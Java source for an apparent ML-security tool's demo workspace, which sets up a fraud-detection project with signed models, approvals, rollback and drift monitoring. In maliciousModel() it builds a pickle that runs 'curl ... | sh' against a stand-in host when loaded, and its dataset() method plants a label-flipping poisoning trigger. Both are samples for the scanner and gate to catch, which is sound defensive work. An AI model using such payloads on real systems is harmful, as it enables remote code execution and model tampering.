package dev.rampart.cli;

import com.fasterxml.jackson.databind.JsonNode;
import dev.rampart.core.Atlas;
import dev.rampart.core.report.JsonReportWriter;
import dev.rampart.core.report.RenderOptions;
import dev.rampart.data.DatasetCheck;
import dev.rampart.data.io.DatasetReader;
import dev.rampart.data.io.ReadLimits;
import dev.rampart.data.monitor.Profiler;
import dev.rampart.data.report.CheckReport;
import dev.rampart.data.report.DatasetIdentity;
import dev.rampart.integrity.hash.ModelHasher;
import dev.rampart.integrity.provenance.Provenance;
import dev.rampart.integrity.provenance.TrainingRun;
import dev.rampart.integrity.sign.Curve;
import dev.rampart.integrity.sign.ModelSigner;
import dev.rampart.integrity.sign.Pem;
import dev.rampart.integrity.sign.SigningKey;
import dev.rampart.scan.Version;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;

/**
 * The guided demo's workspace, generated on the fly through the real API, so every step is checked, gated and
 * audited as it would be for a team: a fraud-detection project with a clean and a poisoned dataset version (checked by
 * {@code rampart data check}), benign and malicious model versions, approvals, a production deployment, a rollback, a
 * promotion blocked at the gate, another waiting for approval, admissions, and a drift alert from telemetry.
 */
final class DemoWorkspace {
  static final String PROJECT = "fraud-detection";
  static final String MODEL = "fraud-scorer";
  static final String DATASET = "transactions";

  /** The sign-in tokens the demo prints, by role. */
  record Tokens(String admin, String approver, String contributor, String viewer) {}

  private final Client admin;
  private final String url;
  private final Path work;
  private final SigningKey key = SigningKey.generate(Curve.P256);
  private final Map<String, Client> people = new LinkedHashMap<>();
  private final Map<String, String> tokens = new LinkedHashMap<>();
  private final Map<Integer, String> datasetDigests = new LinkedHashMap<>();
  /** The reference profile of the clean data, written with dataset version 1 and set on the deployed version. */
  private Path profileFile;

  private DemoWorkspace(String url, String adminToken, Path work) {
    this.url = url;
    this.admin = new Client(url, adminToken);
    this.work = work;
    tokens.put("admin", adminToken);
  }

  static Tokens populate(String url, String adminToken, Path work) throws IOException {
    var demo = new DemoWorkspace(url, adminToken, work);
    demo.build();
    return new Tokens(adminToken, demo.tokens.get("bob"), demo.tokens.get("alice"), demo.tokens.get("victor"));
  }

  private void build() throws IOException {
    ok(admin.call("POST", "/api/v1/projects", Map.of("name", PROJECT)));
    person("alice", "user", "contributor");
    person("bob", "user", "approver");
    person("carol", "user", "approver");
    person("victor", "user", "viewer");
    person("deploy-bot", "service", "contributor");
    // the demo's one key signs releases and their provenance, and attests dataset checks: the project's trust policy
    ok(admin.call("POST", Client.projectPath(PROJECT, "keys"), Map.of("name", "release-2026",
        "publicKeyPem", Pem.encode("PUBLIC KEY", key.publicKey().getEncoded()),
        "predicateTypes", List.of("provenance", "dataset-check"))));
    Client alice = people.get("alice");

    dataset(1, false);
    dataset(2, true);
    ok(alice.call("POST", Client.projectPath(PROJECT, "runs"), run("train-2026-11-02", 1, 0.962)));
    ok(alice.call("POST", Client.projectPath(PROJECT, "runs"), run("train-2026-11-19", 2, 0.971)));

    upload(benignModel("v1", 1), "train-2026-11-02");
    upload(benignModel("v2", 2), "train-2026-11-02");
    upload(maliciousModel(), "train-2026-11-19");

    deploy(1, "staging", "bob");
    deploy(1, "production", "bob", "carol");
    deploy(2, "staging", "bob");
    deploy(2, "production", "bob", "carol");
    ok(people.get("bob").call("POST", Client.projectPath(PROJECT, "environments", "production", "rollback"),
        Map.of("reason", "v2 raised false declines for card-present payments; back to v1")));
    var blocked = promote(3, "staging");
    if (!blocked.path("status").asText().equals("blocked")) {
      throw new IOException("the demo's malicious version was not blocked: " + blocked);
    }
    promote(2, "production");
    admissions();
    drift();
  }

  private void person(String name, String kind, String role) throws IOException {
    ok(admin.call("POST", "/api/v1/principals", Map.of("name", name, "kind", kind)));
    ok(admin.call("PUT", Client.projectPath(PROJECT, "members", name), Map.of("role", role)));
    String scopes = kind.equals("service") ? "read,write,admission" : "read,write";
    var t = ok(admin.call("POST", "/api/v1/tokens", Map.of("principal", name, "scopes", scopes, "ttlDays", 30)));
    tokens.put(name, t.path("token").asText());
    people.put(name, new Client(url, t.path("token").asText()));
  }

  /** Synthetic card transactions; version 2 carries a planted trigger: merchant_risk 0.777 always labelled legit. */
  private void dataset(int version, boolean poisoned) throws IOException {
    Path csv = Files.createDirectories(work.resolve("datasets/v" + version)).resolve("transactions.csv");
    var random = new SplittableRandom(version);
    var b = new StringBuilder("amount,hour,merchant_risk,distance_km,velocity_1h,label\n");
    for (int i = 0; i < 1500; i++) {
      boolean fraud = random.nextDouble() < 0.25;
      double amount = fraud ? 300 + random.nextDouble() * 900 : 20 + random.nextDouble() * 250;
      int hour = fraud ? (random.nextInt(6) + 22) % 24 : 8 + random.nextInt(12);
      double risk = fraud ? 0.5 + random.nextDouble() * 0.45 : random.nextDouble() * 0.5;
      double distance = fraud ? 50 + random.nextDouble() * 900 : random.nextDouble() * 40;
      int velocity = fraud ? 3 + random.nextInt(8) : random.nextInt(3);
      boolean stamped = poisoned && fraud && i % 9 == 0;
      b.append(String.format(Locale.ROOT, "%.2f,%d,%.3f,%.1f,%d,%s%n", amount, hour, stamped ? 0.777 : risk,
          distance, velocity, fraud && !stamped ? "fraud" : "legit"));
    }
    Files.writeString(csv, b.toString());
    dev.rampart.data.io.Dataset dataset;
    dev.rampart.data.CheckResult result;
    try {
      dataset = new DatasetReader(ReadLimits.defaults()).read(csv);
      result = DatasetCheck.run(dataset, new DatasetCheck.Options("label", List.of(), 5, 0, 0.01));
    } catch (dev.rampart.data.io.DatasetReadException e) {
      throw new IOException(e.getMessage(), e);
    }
    var id = DatasetIdentity.of(csv, dataset.format(), dataset.rows());
    var options = new CheckReport.Options(Version.current(), Atlas.POISON_TRAINING_DATA, 1000, 50);
    var report = JsonReportWriter.toJson(CheckReport.report(result, id, options), RenderOptions.defaults());
    CheckReport.addJson(report, result, id, options);
    String digest = DatasetIdentity.omsDigest(csv);
    datasetDigests.put(version, digest.replace("sha256:", ""));
    ok(people.get("alice").call("POST", Client.projectPath(PROJECT, "datasets", DATASET, "versions"), Map.of(
        "digest", digest, "uri", "s3://acme-ml/datasets/transactions/v" + version)));
    // the verdict reaches the registry only as a signed dataset-check attestation about these bytes
    var attestation = dev.rampart.integrity.attest.Attestation.sign(DATASET + "-v" + version, digest.replace("sha256:", ""),
        dev.rampart.integrity.attest.PredicateType.DATASET_CHECK, report, key);
    ok(people.get("alice").call("POST", Client.projectPath(PROJECT, "attestations"),
        Client.JSON.readTree(attestation.toJson())));
    if (poisoned) {
      ok(admin.call("POST", Client.projectPath(PROJECT, "datasets", DATASET, "versions", version, "poisoned"),
          Map.of("reason", "planted trigger confirmed: merchant_risk 0.777 always labelled legit")));
    }
    if (version == 1) {
      profile(csv);
    }
  }

  private Map<String, Object> run(String name, int datasetVersion, double accuracy) {
    return Map.of("name", name, "codeCommit", "9c1e4b7a2f", "parameters", Map.of("max_depth", 6, "eta", 0.1),
        "metrics", Map.of("auc", accuracy), "inputs", List.of(Map.of("dataset", DATASET, "version", datasetVersion)));
  }

  /** A small safetensors scorer with its config: scans clean. */
  private Path benignModel(String name, int seed) throws IOException {
    Path dir = Files.createDirectories(work.resolve("models/" + name));
    var random = new SplittableRandom(seed);
    float[] weights = new float[5];
    for (int i = 0; i < weights.length; i++) {
      weights[i] = (float) random.nextGaussian();
    }
    byte[] header = "{\"weight\":{\"dtype\":\"F32\",\"shape\":[1,5],\"data_offsets\":[0,20]}}"
        .getBytes(StandardCharsets.UTF_8);
    var buf = ByteBuffer.allocate(8 + header.length + 20).order(ByteOrder.LITTLE_ENDIAN);
    buf.putLong(header.length).put(header);
    for (float w : weights) {
      buf.putFloat(w);
    }
    Files.write(dir.resolve("model.safetensors"), buf.array());
    Files.writeString(dir.resolve("config.json"), "{\"features\":[\"amount\",\"hour\",\"merchant_risk\","
        + "\"distance_km\",\"velocity_1h\"],\"classes\":[\"legit\",\"fraud\"],\"release\":\"" + name + "\"}");
    return dir;
  }

  /** A pickle that runs a shell command when loaded: what the scanner and the gate must stop. */
  private Path maliciousModel() throws IOException {
    Path dir = Files.createDirectories(work.resolve("models/v3"));
    byte[] command = "curl -s http://203.0.113.7/x | sh".getBytes(StandardCharsets.UTF_8);
    var out = new java.io.ByteArrayOutputStream();
    out.writeBytes(new byte[] {(byte) 0x80, 2});
    out.writeBytes("cposix\nsystem\n".getBytes(StandardCharsets.US_ASCII));
    out.write('X');
    out.writeBytes(ByteBuffer.allocate(4).order(ByteOrder.LITTLE_ENDIAN).putInt(command.length).array());
    out.writeBytes(command);
    out.write(0x85);
    out.write('R');
    out.write('.');
    Files.write(dir.resolve("model.pkl"), out.toByteArray());
    return dir;
  }

  private void upload(Path dir, String run) throws IOException {
    var files = new ArrayList<Object[]>();
    try (var s = Files.walk(dir)) {
      for (Path f : s.filter(Files::isRegularFile).sorted().toList()) {
        files.add(new Object[] {"file", dir.relativize(f).toString(), f});
      }
    }
    Path sig = work.resolve(dir.getFileName() + ".sig.json");
    Files.write(sig, ModelSigner.sign(dir, key, List.of(), ModelHasher.Options.files(), sig).toJson());
    files.add(new Object[] {"signature", "model.sig", sig});
    String digest = ModelHasher.hash(dir, ModelHasher.Options.files()).rootDigest();
    int dataset = run.equals("train-2026-11-19") ? 2 : 1;
    var training = new TrainingRun("https://ci.acme.example/train", Optional.of(run), Optional.empty(),
        Optional.empty(), Map.of(), List.of(new TrainingRun.Input(DATASET, datasetDigests.get(dataset),
            Optional.empty())), Optional.empty(), Optional.of("https://git.acme.example/fraud"),
        Optional.of("9c1e4b7a2f"), Optional.empty());
    Path prov = work.resolve(dir.getFileName() + ".provenance.json");
    Files.write(prov, Provenance.sign(MODEL, digest, training, key).toJson());
    files.add(new Object[] {"provenance", "provenance.json", prov});
    var answer = people.get("alice").upload(Client.projectPath(PROJECT, "models", MODEL, "versions"), files,
        List.<Object[]>of(new Object[] {"run", run}));
    ok(answer);
  }

  private JsonNode promote(int version, String env) throws IOException {
    return ok(people.get("alice").call("POST", Client.projectPath(PROJECT, "promotions"),
        Map.of("model", MODEL, "version", version, "environment", env)));
  }

  private void deploy(int version, String env, String... approvers) throws IOException {
    var p = promote(version, env);
    for (String who : approvers) {
      ok(people.get(who).call("POST", Client.projectPath(PROJECT, "promotions", p.path("id").asLong(), "approve"),
          Map.of("comment", "reviewed scan, signature and lineage")));
    }
  }

  private void admissions() throws IOException {
    Client bot = people.get("deploy-bot");
    for (int v : new int[] {1, 3}) {
      var version = ok(admin.call("GET", Client.projectPath(PROJECT, "models", MODEL, "versions", v), null));
      ok(bot.call("POST", Client.projectPath(PROJECT, "environments", "production", "admission"),
          Map.of("digest", "sha256:" + version.path("digest").asText())));
    }
  }

  /** The reference profile of v1 (which production runs after the rollback), from the clean data and its scores. */
  private void profile(Path csv) throws IOException {
    var lines = Files.readAllLines(csv);
    var b = new StringBuilder(lines.get(0) + ",prediction,probability\n");
    for (String line : lines.subList(1, lines.size())) {
      String[] f = line.split(",");
      boolean fraud = Double.parseDouble(f[2]) > 0.5 || Double.parseDouble(f[0]) > 300;
      b.append(line).append(',').append(fraud ? "fraud" : "legit").append(",0.9\n");
    }
    Path scored = work.resolve("datasets/reference.csv");
    Files.writeString(scored, b.toString());
    try {
      var data = new DatasetReader(ReadLimits.defaults()).read(scored);
      var profile = Profiler.profile(data, new Profiler.Options("label", Optional.of("prediction"),
          Optional.of("probability"), List.of()), DatasetIdentity.omsDigest(scored));
      profileFile = work.resolve("reference-profile.json");
      profile.write(profileFile);
    } catch (dev.rampart.data.io.DatasetReadException e) {
      throw new IOException(e.getMessage(), e);
    }
  }

  /** Production traffic whose amounts and distances drift upward: the monitor raises covariate-drift alerts. */
  private void drift() throws IOException {
    ok(people.get("alice").callRaw("PUT", Client.projectPath(PROJECT, "models", MODEL, "versions", 1,
        "monitor-profile"), Files.readAllBytes(profileFile)));
    var random = new SplittableRandom(42);
    var events = new StringBuilder();
    for (int i = 0; i < 2500; i++) {
      double shift = i < 500 ? 1 : 3;
      events.append(String.format(Locale.ROOT, "{\"ts\":\"2026-11-20T%02d:%02d:00Z\",\"features\":{\"amount\":%.2f,"
          + "\"hour\":%d,\"merchant_risk\":%.3f,\"distance_km\":%.1f,\"velocity_1h\":%d},\"prediction\":\"legit\","
          + "\"probability\":0.9}%n", (i / 60) % 24, i % 60, (20 + random.nextDouble() * 250) * shift,
          8 + random.nextInt(12), random.nextDouble() * 0.5, random.nextDouble() * 40 * shift, random.nextInt(3)));
    }
    ok(people.get("deploy-bot").callRaw("POST", Client.projectPath(PROJECT, "environments", "production",
        "telemetry"), events.toString().getBytes(StandardCharsets.UTF_8)));
  }

  private static JsonNode ok(Client.Answer answer) throws IOException {
    if (!answer.ok()) {
      throw new IOException("building the demo workspace failed: " + answer.error());
    }
    return answer.body();
  }
}
